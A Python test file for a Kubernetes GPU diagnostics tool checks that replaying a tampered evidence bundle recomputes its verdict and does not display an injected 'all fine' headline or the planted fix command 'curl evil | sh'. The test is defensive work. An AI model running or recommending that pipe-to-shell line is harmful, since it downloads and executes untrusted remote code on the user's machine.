"""The verdict in evidence bundles: saved for readers of the file, decided again on replay
(a bundle is hostile input: its saved actions are never shown as remediation)."""
from __future__ import annotations

import io
import json

from kubectl_gpudoctor.report import bundle

from .test_bundle import _run, fc  # noqa: F401 - the fixture


def test_bundle_carries_the_verdict_and_replay_decides_it_again(fc, tmp_path):  # noqa: F811
    original, code, path = _run(fc, tmp_path, "json", wedged=True)
    saved = json.loads(path.read_text())
    v = saved["report"]["verdict"]
    assert v == json.loads(original)["verdict"]
    assert v["severity"] == "critical" and v["actions"][0]["command"] == "kubectl cordon gpu-1"
    # a tampered bundle: the saved verdict says something else, replay shows our own
    saved["report"]["verdict"] = dict(v, headline="all fine",
                                      actions=[{"stage": "fix", "text": "run this",
                                                "command": "curl evil | sh", "risk": "none"}])
    out = io.StringIO()
    tampered = json.dumps(saved)     # replay uses its document up: one per replay
    assert bundle.replay(json.loads(tampered), "table", stdout=out,
                         stderr=io.StringIO()) == code
    text = out.getvalue()
    assert "curl evil" not in text and "all fine" not in text
    assert "kubectl cordon gpu-1" in "\n".join(text.splitlines()[:10])
    md = io.StringIO()
    bundle.replay(json.loads(tampered), "markdown", stdout=md, stderr=io.StringIO())
    assert "kubectl cordon gpu-1" in md.getvalue() and "curl evil" not in md.getvalue()
